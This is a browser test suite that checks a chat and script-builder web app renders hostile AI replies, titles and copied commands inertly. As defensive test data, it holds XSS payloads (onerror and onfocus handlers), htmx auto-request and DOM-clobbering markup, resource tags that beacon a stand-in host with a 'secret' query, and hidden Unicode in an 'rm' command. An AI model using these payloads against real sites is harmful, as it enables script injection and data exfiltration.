"""Hostile words in a real browser: nothing is asked for, nothing runs, nothing of the page is taken over or hidden."""

import threading
from types import SimpleNamespace
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from flowpilot.ai.port import Call
from pilot.models import ChatMessage
from script_builder.models import ScriptTemplate
from tests.attacks.test_hostile_text import FORGED, SNEAKY, WORDS
from tests.factories.pilot import make_fix, make_session, make_task, make_template
from tests.factories.script_builder import InlineFactory
from tests.journeys.speaking import in_pieces
from tests.web.test_markdown import HOSTILE

# What reaches further in a browser than in a parser.
MORE = [
    "![x](http://127.0.0.2/pixel.png?q=secret) ![x][p]\n\n[p]: http://127.0.0.2/reference.png",
    "<div hx-get=/sessions/ hx-trigger=load></div><div data-hx-get=/profile/ data-hx-trigger=load></div>",
    "<a href=/profile/ hx-boost=true autofocus onfocus=alert(1)>x</a><input autofocus onfocus=alert(1)>",
    "<p id=fix-slot>clobbered</p><form name=body id=turns><input name=cookie id=composer></form><a id=htmx>x</a>",
    "<link rel=stylesheet href=http://127.0.0.2/a.css><style>@import 'http://127.0.0.2/b.css';</style>",
    "<object data=http://127.0.0.2/o></object><embed src=http://127.0.0.2/e><video src=http://127.0.0.2/v autoplay>",
    "<script-editor open></script-editor><script src=http://127.0.0.2/s.js></script>",
    "```powershell\n<img src=http://127.0.0.2/code.png>\n```\n",
]
# Comes by itself, in a paragraph that is still open: such words are shown before anything can clean them.
OPEN = " <img src=x onerror=alert(1)> <b hx-get=/profile/ hx-trigger=load id=fix-slot>x</b> So far."
SAID = "\n\n".join([*HOSTILE, *FORGED, *MORE, "That was **all**."])
TITLE = WORDS[-60:] + " in a title"
PROPOSED = {"title": TITLE, "why": WORDS, "description": WORDS, "confidence": 50, "risk": "low", "warnings": [WORDS]}
TASK = {"kind": "check", "text": TITLE, "why": WORDS, "command": f"echo {WORDS}", "choices": [WORDS]}
# What a page holds once; a double, or one of another kind, was forged.
OURS = ["fix-slot", "turns", "composer", "session-head", "task-lane", "live", "main"]


@pytest.fixture
def speaker(speaks):
    """Pauses in an open paragraph and before its end, and calls for what looks like markup too."""
    goes_further, go_on = threading.Event(), threading.Event()
    calls = Call("ask_tasks", {"tasks": [TASK]}), Call("propose_fix", PROPOSED)
    speaks(*in_pieces(SAID, 5), goes_further, OPEN, go_on, *calls, "\n\nDone.")
    return SimpleNamespace(goes_further=goes_further, go_on=go_on)


@pytest.fixture
def session(orm, owner):
    return orm(lambda: make_session(owner, title=TITLE, client=WORDS, device=WORDS))


@pytest.fixture
def requests(desk, base_url):
    """Every request of the page but those that it makes by itself: `requests()` gives what is left over."""
    seen = []
    desk.page.context.on("request", lambda request: seen.append((request.method, request.url)))
    desk.page.on("dialog", lambda dialog: seen.append(("DIALOG", dialog.message)))

    def left(*own: str) -> list:
        known = [urlsplit(base_url).netloc]
        return [
            (method, url)
            for method, url in seen
            if urlsplit(url).netloc not in known or not urlsplit(url).path.startswith(("/static/", *own))
        ]

    return left


def is_untouched(page) -> None:
    """The page's own parts are there once each and of our making, and no element of the words' is."""
    counts = page.evaluate("ids => ids.map(id => document.querySelectorAll(`[id='${id}']`).length)", OURS)
    assert counts == [1] * len(OURS)
    kinds = """() => [document.body.tagName, typeof document.cookie, document.forms instanceof HTMLCollection,
                     document.head.querySelectorAll("base, meta[http-equiv]").length, typeof window.htmx]"""
    assert page.evaluate(kinds) == ["BODY", "string", True, 0, page.evaluate("typeof htmx")]
    inside = page.locator("[data-blocks], [data-tail], .turn, .task, .fix, .session-head, .sidebar, .sheet")
    foreign = (
        "img, svg:not(.icon), math, iframe, object, embed, video, base, meta, style, link, script, [onerror], [onload]"
    )
    assert inside.locator(foreign).count() == 0
    blocks = page.locator("[data-blocks]")
    assert blocks.locator("[id], [name], form, input, [hx-get], [data-hx-get], [hx-swap-oob], [onclick]").count() == 0
    schemes = "links => [...new Set(links.map(link => link.protocol))]"
    assert set(blocks.locator("a").evaluate_all(schemes)) <= {"http:", "https:", "mailto:"}
    assert blocks.locator("a:not([rel~=noopener][rel~=noreferrer][target=_blank])").count() == 0


def test_a_hostile_reply_asks_for_nothing_and_takes_nothing_over(desk, session, speaker, requests, orm):
    page, own = desk.page, [f"/sessions/{session.pk}/", "/replies/"]
    desk.goes_to(session)
    assert page.title() == TITLE
    desk.says("Why?")
    reply = page.locator(".reply").last
    expect(reply.locator("[data-tail]")).to_contain_text("That was **all**.")
    is_untouched(page)
    expect(page.locator("#fix-slot")).not_to_contain_text("Approved")
    speaker.goes_further.set()
    expect(reply.locator("[data-tail]")).to_contain_text(OPEN)
    is_untouched(page)
    page.reload()
    expect(page.locator(".reply").last.locator("[data-tail]")).to_contain_text(OPEN)
    is_untouched(page)
    speaker.go_on.set()
    expect(page.locator("[data-reply=done]")).to_have_count(1)
    expect(page.locator("#fix-slot .fix__title")).to_have_text(TITLE)
    expect(page.locator(".task__text")).to_contain_text(TITLE)
    is_untouched(page)
    expect(page.locator(".fix__state")).to_have_text("Proposed fix")
    desk.presses("Apply")
    desk.is_on("Script Builder")
    is_untouched(page)
    page.reload()
    is_untouched(page)
    text = orm(lambda: ChatMessage.objects.get(role="assistant").reply.text)
    assert page.locator("[data-blocks]").last.inner_text().count("<script>") >= 3 and "onerror" in text
    assert requests(*own, "/script-builder/") == []


def test_names_with_markup_in_lists_titles_and_messages(desk, session, owner, requests, orm):
    page = desk.page
    template = orm(lambda: make_template(owner, name=TITLE, description=WORDS, category=WORDS[:80], tags=[WORDS]))
    page.goto("/sessions/")
    expect(page.locator(".session-row__title")).to_have_text(TITLE)
    is_plain = page.locator("main").locator("img, script, iframe, base, style")
    expect(is_plain).to_have_count(0)
    page.goto("/scripts/")
    expect(page.locator(".template-row__name")).to_contain_text(TITLE)
    page.get_by_role("link", name=TITLE).click()
    expect(page).to_have_title(f"{TITLE} · Scripts")
    expect(is_plain).to_have_count(0)
    page.locator("summary", has_text="Delete").click()
    page.locator("form[action$='/delete/'] button").click()
    expect(page.locator("[data-message]")).to_contain_text(f"“{TITLE}” was deleted.")
    expect(page.locator("[data-message] img")).to_have_count(0)
    assert orm(lambda: ScriptTemplate.objects.filter(pk=template.pk).count()) == 0
    assert requests("/sessions/", "/scripts/") == []


def test_a_copied_command_is_the_one_that_is_read(workbench_of, owner, session, orm):
    """No character that is not seen, no escape sequence, and no line end that would run it at the paste."""
    orm(lambda: make_task(session, kind="check", text="Look.", command=SNEAKY))
    desk = workbench_of(owner, permissions=["clipboard-read", "clipboard-write"])
    desk.goes_to(session)
    task = desk.task("Look.")
    shown = task.locator("code").text_content()
    task.get_by_role("button", name="Copy the command").click()
    expect(task.get_by_text("Copied")).to_be_visible()
    copied = desk.page.evaluate("navigator.clipboard.readText()")
    assert copied == shown == shown.rstrip("\n")
    assert all(f"U+{code}" in copied for code in ("202E", "2066", "200B", "001B", "3164", "E0041"))
    assert copied.isascii() or set(copied) - {"⟨", "⟩"} == set(filter(str.isascii, copied))


def test_the_editor_shows_what_cannot_be_seen(desk, session, owner, orm):
    fix = orm(lambda: make_fix(session, title="Restart it"))
    orm(lambda: InlineFactory(user=owner, ai_session=session, source_fix=fix, buffer="ls \u202e# x\nrm\u200b -x\n"))
    desk.goes_to(session).selects("Script Builder")
    desk.opens_the_editor()
    expect(desk.code.locator(".view-lines")).to_contain_text("[U+202E]")
    expect(desk.code.locator(".unicode-highlight")).not_to_have_count(0)
